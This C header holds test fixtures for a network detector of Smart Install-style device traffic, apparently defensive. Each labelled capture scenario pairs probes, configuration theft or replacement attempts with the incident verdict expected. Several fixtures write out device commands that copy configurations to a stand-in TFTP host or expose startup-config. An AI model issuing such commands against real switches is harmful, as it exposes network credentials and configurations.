/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Labelled situations: what was seen, and what may be said about it.
 *
 *   m SECONDS FLOW A>D NAME EVENTS [s=STATUS] [r=READING] [c=COMMAND] [u=URL] [t=TOOL]   the opener of the connection speaks
 *   m SECONDS FLOW A<D NAME EVENTS ...                                       the other side answers
 *   f SECONDS FLOW A>D FACTS CLIENT-BYTES SERVER-BYTES [MISSING-FROM-SERVER] the connection ended
 *
 *   t SECONDS FLOW A>D STATE NAME WAY SIZE [g=GAP] [o=FLOW] [y=TYPE] [d=DIGIT]   A asked D for a file, or to take one
 *
 * WAY: c, the contents go to who asked, or s. STATE: closed, truncated, refused, unconfirmed. o: flow of the message
 * that ordered it. d: what every byte of its MD5, or with messages of the reported MD5, is.
 * Facts: a accepted, r refused, c server closed, x server reset, s server not seen, u unfinished.
 * A and B are strangers, M a director, D, E, F devices; "-" stands for nothing, "_" in texts for a space.
 */
#ifndef SMINI_TEST_SITUATIONS_H
#define SMINI_TEST_SITUATIONS_H

struct situation {
    const char *label;
    const char *directors, *file_servers;
    const char *seen;
    const char *incidents; /* "actor>device verdict outcome severity authorised messages", one per line */
    const char *devices;   /* "device role state" */
};

#define SIET "c=copy_system:running-config_flash:/config.text"
#define PROBE "m 1 1 A>D capabilities_request probe\n"
#define ACTIVE "m 1 1 A<D capabilities_response client_active\n"
#define STEAL "m 10 2 A>D backup_request config_exfiltration " SIET "\n"

#define PUSH "m 10 2 A>D download_config config_replacement u=tftp://198.51.100.7/my.conf\nf 10 2 A>D a 312 0\n"
#define SEND "m 10 2 A>D backup_request config_exfiltration c=copy_flash:/config.text_tftp://198.51.100.7/d.conf\nf 10 2 A>D a 1048 0\n"
#define SERVE "m 10 2 A>D backup_request config_exfiltration c=configure_tftp-server_nvram:startup-config\nf 10 2 A>D a 376 0\n"
#define LIST "m 10 2 A>D download_image image_replacement u=tftp://198.51.100.7/list.txt\nf 10 2 A>D a 468 0\n"

static const struct situation situations[] = {
    {"nothing", "", "", "", "", ""},
    {"probe without an answer", "", "", PROBE "f 1 1 A>D a 24 0\n", "A>D probe attempted low unknown 1\n",
     "D unknown unknown\n"},
    {"probe answered", "", "", PROBE ACTIVE "f 1 1 A>D ac 24 24\n", "A>D probe answered low unknown 2\n",
     "D client enabled\n"},
    {"probe, device's side not captured", "", "", PROBE "f 1 1 A>D s 24 0\n", "A>D probe unknown low unknown 1\n",
     "D unknown unknown\n"},
    {"probe, the answer was lost", "", "", PROBE "f 1 1 A>D a 24 0 24\n", "A>D probe unknown low unknown 1\n",
     "D unknown unknown\n"},
    {"probe closed without a word: a hint of a director, no proof", "", "", PROBE "f 1 1 A>D ac 24 0\n",
     "A>D probe attempted low unknown 1\n", "D unknown unknown\n"},
    {"probe whose flow never ended", "", "", PROBE, "A>D probe unknown low unknown 1\n", "D unknown unknown\n"},
    {"probe answered whose flow never ended", "", "", PROBE ACTIVE, "A>D probe answered low unknown 2\n",
     "D client enabled\n"},
    {"bytes thrown at a refused connection", "", "", PROBE "f 1 1 A>D r 24 0\n", "A>D probe failed low unknown 1\n",
     "D unknown unknown\n"},
    {"connection refused, no message", "", "", "f 1 1 A>D r 0 0\n", "", "D unknown closed\n"},
    {"connection accepted, no message", "", "", "f 1 1 A>D a 0 0\n", "", "D unknown unknown\n"},
    {"another service on the port", "", "", "f 1 1 A>D ac 80 900\n", "", ""},
    {"SYN without an answer", "", "", "f 1 1 A>D s 0 0\n", "", ""},
    {"refused once, answered later", "", "", "f 0 9 A>D r 0 0\n" PROBE ACTIVE "f 1 1 A>D a 24 24\n",
     "A>D probe answered low unknown 2\n", "D client enabled\n"},
    {"answered, refused later", "", "", PROBE ACTIVE "f 1 1 A>D a 24 24\nf 9 9 A>D r 0 0\n",
     "A>D probe answered low unknown 2\n", "D client enabled\n"},
    {"a probe is told with the theft that follows", "", "",
     PROBE ACTIVE "f 1 1 A>D a 24 24\n" STEAL "f 10 2 A>D a 1048 0\n",
     "A>D config-exfiltration attempted high unknown 3\n", "D client enabled\n"},
    {"an hour between probe and theft changes nothing", "", "",
     PROBE "f 1 1 A>D a 24 0\nm 3700 2 A>D backup_request config_exfiltration " SIET "\nf 3700 2 A>D a 1048 0\n",
     "A>D config-exfiltration attempted high unknown 2\n", "D unknown unknown\n"},
    {"a probe after the theft stands alone", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 5000 1 A>D capabilities_request probe\nf 5000 1 A>D a 24 0\n",
     "A>D config-exfiltration attempted high unknown 1\nA>D probe attempted low unknown 1\n", "D unknown unknown\n"},
    {"the probe of another actor stands alone", "", "",
     "m 1 1 B>D capabilities_request probe\nf 1 1 B>D a 24 0\n" STEAL "f 10 2 A>D a 1048 0\n",
     "B>D probe attempted low unknown 1\nA>D config-exfiltration attempted high unknown 1\n", "D unknown unknown\n"},
    {"a probe of another device stands alone", "", "",
     "m 1 1 A>E capabilities_request probe\nf 1 1 A>E a 24 0\n" STEAL "f 10 2 A>D a 1048 0\n",
     "A>E probe attempted low unknown 1\nA>D config-exfiltration attempted high unknown 1\n",
     "D unknown unknown\nE unknown unknown\n"},
    {"theft confirmed by a call back to the actor", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 40 3 D>A backup_response backup_confirmed s=1\nf 41 3 D>A a 92 0\n",
     "A>D config-exfiltration succeeded critical unknown 2\n", "D client enabled\n"},
    {"theft confirmed to somebody else, one actor asked", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 40 3 D>M backup_response backup_confirmed s=1\nf 41 3 D>M a 92 0\n",
     "A>D config-exfiltration succeeded critical unknown 2\n", "D client enabled\n"},
    {"confirmed to a third party, two actors asked: nobody can say whose", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 12 4 B>D backup_request config_exfiltration " SIET
           "\nf 12 4 B>D a 1048 0\nm 40 3 D>M backup_response backup_confirmed s=1\nf 41 3 D>M a 92 0\n",
     "A>D config-exfiltration attempted high unknown 1\nB>D config-exfiltration attempted high unknown 1\n",
     "D client enabled\n"},
    {"two actors asked, confirmed to one of them", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 12 4 B>D backup_request config_exfiltration " SIET
           "\nf 12 4 B>D a 1048 0\nm 40 3 D>B backup_response backup_confirmed s=1\nf 41 3 D>B a 92 0\n",
     "A>D config-exfiltration attempted high unknown 1\nB>D config-exfiltration succeeded critical unknown 2\n",
     "D client enabled\n"},
    {"a status nobody documented is an answer, no success", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 40 3 D>A backup_response - s=2\nf 41 3 D>A a 92 0\n",
     "A>D config-exfiltration answered high unknown 2\n", "D client enabled\n"},
    {"a status that was not captured is an answer, no success", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 40 3 D>A backup_response -\nf 41 3 D>A a 92 0\n",
     "A>D config-exfiltration answered high unknown 2\n", "D client enabled\n"},
    {"a response too late belongs to something else", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 4000 3 D>A backup_response backup_confirmed s=1\nf 4001 3 D>A a 92 0\n",
     "A>D config-exfiltration attempted high unknown 1\n", "D client enabled\n"},
    {"a response before the request confirms nothing", "", "",
     "m 5 3 D>A backup_response backup_confirmed s=1\nf 5 3 D>A a 92 0\n" STEAL "f 10 2 A>D a 1048 0\n",
     "A>D config-exfiltration attempted high unknown 1\n", "D client enabled\n"},
    {"the response of another device confirms nothing", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 40 3 E>A backup_response backup_confirmed s=1\nf 41 3 E>A a 92 0\n",
     "A>D config-exfiltration attempted high unknown 1\n", "D unknown unknown\nE client enabled\n"},
    {"a response does not confirm a download", "", "",
     "m 10 2 A>D download_config config_replacement u=tftp://198.51.100.7/my.conf\nf 10 2 A>D a 312 0\n"
     "m 40 3 D>A backup_response backup_confirmed s=1\nf 41 3 D>A a 92 0\n",
     "A>D config-replacement attempted high unknown 1\n", "D client enabled\n"},
    {"a status answer is an answer", "", "",
     "m 10 2 A>D download_config config_replacement u=tftp://198.51.100.7/my.conf\nm 10 2 A<D status client_active "
     "s=1\nf 10 2 A>D a 312 20\n",
     "A>D config-replacement answered high unknown 2\n", "D client enabled\n"},
    {"an answer that the opener sends is no evidence", "", "",
     "m 10 2 A>D capabilities_response role_unexpected\nf 10 2 A>D a 24 0\n", "", ""},
    {"a backup response in the wrong direction is no evidence", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 12 3 A>D backup_response role_unexpected s=1\nf 13 3 A>D a 92 0\n",
     "A>D config-exfiltration attempted high unknown 1\n", "D unknown unknown\n"},
    {"an answer before the question counts for nothing", "", "",
     PROBE ACTIVE "m 2 1 A>D backup_request config_exfiltration " SIET "\nf 2 1 A>D a 1072 24\n",
     "A>D config-exfiltration attempted high unknown 3\n", "D client enabled\n"},
    {"a capabilities response does not answer a command", "", "",
     PROBE "m 1 1 A>D download_config config_replacement u=tftp://198.51.100.7/a\n" ACTIVE "f 1 1 A>D a 336 24\n",
     "A>D config-replacement attempted high unknown 3\n", "D client enabled\n"},
    {"image", "", "", "m 10 2 A>D download_image image_replacement u=tftp://198.51.100.7/l.txt\nf 10 2 A>D a 468 0\n",
     "A>D image-replacement attempted high unknown 1\n", "D unknown unknown\n"},
    {"execute", "", "", "m 10 2 A>D execute command_execution u=tftp://198.51.100.7/e.txt\nf 10 2 A>D a 544 0\n",
     "A>D command-execution attempted critical unknown 1\n", "D unknown unknown\n"},
    {"overflow", "", "",
     "m 10 2 A>D init_discovery discovery_value_oversized,discovery_length_mismatch\nf 10 2 A>D a 240 0\n",
     "A>D overflow-attempt attempted critical unknown 1\n", "D unknown unknown\n"},
    {"overflow from a listed director stays one", "192.0.2.1", "",
     "m 10 2 M>D init_discovery discovery_value_oversized\nf 10 2 M>D a 240 0\n",
     "M>D overflow-attempt attempted critical yes 1\n", "M director unknown\nD unknown unknown\n"},
    {"damage alone", "", "", "m 10 2 A>D download_config body_short\nf 10 2 A>D a 17 0\n",
     "A>D malformed attempted medium unknown 1\n", "D unknown unknown\n"},
    {"damage on a probe stays a probe", "", "",
     "m 10 2 A>D capabilities_request probe,length_understated\nf 10 2 A>D a 28 0\n",
     "A>D probe attempted low unknown 1\n", "D unknown unknown\n"},
    {"damage beside a theft is told with it", "", "",
     STEAL "m 10 2 A>D backup_request length_understated\nf 10 2 A>D a 1048 0\n",
     "A>D config-exfiltration attempted high unknown 2\n", "D unknown unknown\n"},
    {"two verdicts of one message", "", "",
     "m 10 2 A>D backup_request config_exfiltration,command_execution " SIET "\nf 10 2 A>D a 1048 0\n",
     "A>D config-exfiltration attempted high unknown 1\nA>D command-execution attempted critical unknown 1\n",
     "D unknown unknown\n"},
    {"three messages within the window are one act", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 300 3 A>D backup_request config_exfiltration " SIET
           "\nf 300 3 A>D a 1048 0\nm 800 4 A>D backup_request config_exfiltration " SIET "\nf 800 4 A>D a 1048 0\n",
     "A>D config-exfiltration attempted high unknown 3\n", "D unknown unknown\n"},
    {"two messages an hour apart are two acts", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 3610 3 A>D backup_request config_exfiltration " SIET "\nf 3610 3 A>D a 1048 0\n",
     "A>D config-exfiltration attempted high unknown 1\nA>D config-exfiltration attempted high unknown 1\n",
     "D unknown unknown\n"},
    {"the middle one comes last: still one act", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 1110 3 A>D backup_request config_exfiltration " SIET
           "\nf 1110 3 A>D a 1048 0\nm 560 4 A>D backup_request config_exfiltration " SIET "\nf 560 4 A>D a 1048 0\n",
     "A>D config-exfiltration attempted high unknown 3\n", "D unknown unknown\n"},
    {"a connection of an hour is one act", "", "",
     STEAL "m 3610 2 A>D backup_request config_exfiltration " SIET "\nf 3610 2 A>D a 2096 0\n",
     "A>D config-exfiltration attempted high unknown 2\n", "D unknown unknown\n"},
    {"one connection seen whole and one from one side: unknown", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 20 3 A>D backup_request config_exfiltration " SIET "\nf 20 3 A>D s 1048 0\n",
     "A>D config-exfiltration unknown high unknown 2\n", "D unknown unknown\n"},
    {"a listed director's theft is its work", "192.0.2.0/28", "",
     "m 10 2 M>D backup_request config_exfiltration " SIET "\nf 10 2 M>D a 1048 0\n",
     "M>D director-activity attempted info yes 1\n", "M director unknown\nD unknown unknown\n"},
    {"the same from an address that is not listed", "192.0.2.1", "", STEAL "f 10 2 A>D a 1048 0\n",
     "A>D config-exfiltration attempted high no 1\n", "D unknown unknown\n"},
    {"a listed director pointing to an unlisted file server", "192.0.2.1", "192.0.2.2",
     "m 10 2 M>D download_config config_replacement u=tftp://203.0.113.9/my.conf\nf 10 2 M>D a 312 0\n",
     "M>D config-replacement attempted high yes 1\n", "M director unknown\nD unknown unknown\n"},
    {"a listed director pointing to a listed file server", "192.0.2.1", "192.0.2.2",
     "m 10 2 M>D download_config config_replacement u=tftp://192.0.2.2/my.conf\nf 10 2 M>D a 312 0\n",
     "M>D director-activity attempted info yes 1\n", "M director unknown\nD unknown unknown\n"},
    {"a file server that is a name cannot be compared", "192.0.2.1", "192.0.2.2",
     "m 10 2 M>D download_config config_replacement u=tftp://files/my.conf\nf 10 2 M>D a 312 0\n",
     "M>D config-replacement attempted high yes 1\n", "M director unknown\nD unknown unknown\n"},
    {"a rotation when nobody listed directors", "", "",
     "m 10 2 M>D backup_request director_backup c=copy_nvram:startup-config_tftp://192.0.2.1/s.REV2\nf 10 2 M>D a 1048 "
     "0\n",
     "M>D config-exfiltration attempted low unknown 1\n", "D unknown unknown\n"},
    {"a rotation by somebody who is not listed", "192.0.2.1", "",
     "m 10 2 A>D backup_request director_backup " SIET "\nf 10 2 A>D a 1048 0\n",
     "A>D config-exfiltration attempted high no 1\n", "D unknown unknown\n"},
    {"harmless director messages where nobody said who the director is", "", "",
     "m 10 2 M>D init_discovery -\nf 10 2 M>D a 52 0\n", "", "D unknown unknown\n"},
    {"the same from a listed director", "192.0.2.1", "", "m 10 2 M>D init_discovery -\nf 10 2 M>D a 52 0\n",
     "M>D director-activity attempted info yes 1\n", "M director unknown\nD unknown unknown\n"},
    {"the same from somebody who is not listed", "192.0.2.1", "", "m 10 2 A>D init_discovery -\nf 10 2 A>D a 52 0\n",
     "A>D director-activity attempted medium no 1\n", "D unknown unknown\n"},
    {"a record sent before a theft is told with it", "", "",
     "m 10 2 A>D backup_record -\nm 10 2 A>D backup_request config_exfiltration "
     "c=configure_tftp-server_nvram:startup-config\nf 10 2 A>D a 472 0\n",
     "A>D config-exfiltration attempted high unknown 2\n", "D unknown unknown\n"},
    {"a listed director's whole conversation is one act", "192.0.2.1", "",
     "m 1 1 M>D capabilities_request probe\nm 1 1 M<D capabilities_response client_active\nf 1 1 M>D a 24 24\n"
     "m 2 2 M>D backup_request director_backup\nf 2 2 M>D a 1048 0\n"
     "m 9 3 D>M backup_response backup_confirmed s=1\nf 9 3 D>M a 92 0\nm 10 4 M>D backup_done -\nf 10 4 M>D a 20 0\n",
     "M>D director-activity succeeded info yes 5\n", "M director unknown\nD client enabled\n"},
    {"an unknown message of the director's side", "", "", "m 1 1 A>D unknown message_unknown from=1\nf 1 1 A>D a 20 0\n",
     "", "D unknown unknown\n"},
    {"an unknown message of the client's side says nothing", "", "",
     "m 1 1 A<D unknown message_unknown from=3\nf 1 1 A>D a 0 20\n", "", ""},
    {"theft confirmed to a listed director, an unlisted actor asked", "192.0.2.1", "",
     STEAL "f 10 2 A>D a 1048 0\nm 40 3 D>M backup_response backup_confirmed s=1\nf 41 3 D>M a 92 0\n",
     "A>D config-exfiltration attempted high no 1\n", "D client enabled\n"},
    {"copies of the confirmation contradict each other", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 40 3 D>A backup_response backup_confirmed s=1\n"
           "m 40 3 D>A backup_response - s=2 r=2\nf 41 3 D>A a 92 0\n",
     "A>D config-exfiltration answered high unknown 3\n", "D client enabled\n"},
    {"copies of the confirmation agree in what counts", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 40 3 D>A backup_response backup_confirmed s=1 r=1\n"
           "m 40 3 D>A backup_response backup_confirmed s=1 r=2\nf 41 3 D>A a 92 0\n",
     "A>D config-exfiltration succeeded critical unknown 3\n", "D client enabled\n"},
    {"the capture ended while an answer could still come", "", "", PROBE "f 1 1 A>D au 24 0\n",
     "A>D probe unknown low unknown 1\n", "D unknown unknown\n"},
    {"the capture ended after the answer", "", "", PROBE ACTIVE "f 1 1 A>D au 24 24\n",
     "A>D probe answered low unknown 2\n", "D client enabled\n"},
    {"the capture shows the answer before the question", "", "", ACTIVE PROBE "f 1 1 A>D a 24 24\n",
     "A>D probe unknown low unknown 1\n", "D client enabled\n"},
    {"a probe that was answered before the theft says nothing about the theft", "", "",
     PROBE ACTIVE "m 10 1 A>D backup_request config_exfiltration " SIET "\nf 10 1 A>D a 1072 24\n",
     "A>D config-exfiltration attempted high unknown 3\n", "D client enabled\n"},
    {"who opened the connection was not captured, and the device seems to", "", "",
     "m 1 1 D>A capabilities_response client_active\nm 1 1 D<A capabilities_request probe\n"
     "m 1 1 D>A capabilities_response client_active\nf 1 1 D>A a 48 24\n",
     "A>D probe unknown low unknown 1\n", "D unknown unknown\n"},
    {"answers that the opener makes up are none of the device", "", "",
     PROBE "m 1 1 A>D capabilities_response role_unexpected\nf 1 1 A>D a 48 0\n",
     "A>D probe attempted low unknown 1\n", "D unknown unknown\n"},
    {"a sweep is one incident per device", "", "",
     "m 1 1 A>D capabilities_request probe\nf 1 1 A>D a 24 0\nm 1 2 A>E capabilities_request probe\nf 1 2 A>E a 24 0\n"
     "m 1 3 A>F capabilities_request probe\nf 1 3 A>F a 24 0\n",
     "A>D probe attempted low unknown 1\nA>E probe attempted low unknown 1\nA>F probe attempted low unknown 1\n",
     "D unknown unknown\nE unknown unknown\nF unknown unknown\n"},
#include "transfers.h"
};

#endif
